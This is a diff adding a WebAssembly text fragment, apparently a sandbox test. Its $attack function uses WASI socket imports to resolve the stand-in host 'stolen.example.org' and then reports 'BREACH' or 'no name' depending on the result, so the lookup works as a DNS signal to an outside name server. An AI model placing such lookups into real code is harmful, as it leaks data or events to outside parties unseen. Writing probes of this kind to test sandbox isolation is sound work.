@@ -1,0 +1,11 @@
+;; Looks a name up, which would tell a name server of the event.
+(import "wasi:sockets/instance-network@0.2.0" "instance-network" (func $network (result i32)))
+(import "wasi:sockets/ip-name-lookup@0.2.0" "resolve-addresses" (func $resolve (param i32 i32 i32 i32)))
+(data (i32.const 1024) "own words, no name")
+(data (i32.const 1088) "BREACH: a name")
+(data (i32.const 1152) "stolen.example.org")
+(func $attack (result i32)
+  (call $resolve (call $network) (i32.const 1152) (i32.const 18) (i32.const 4096))
+  (if (i32.load8_u (i32.const 4096))
+    (then (return (call $post (i32.const 1024) (i32.const 18)))))
+  (call $post (i32.const 1088) (i32.const 14)))
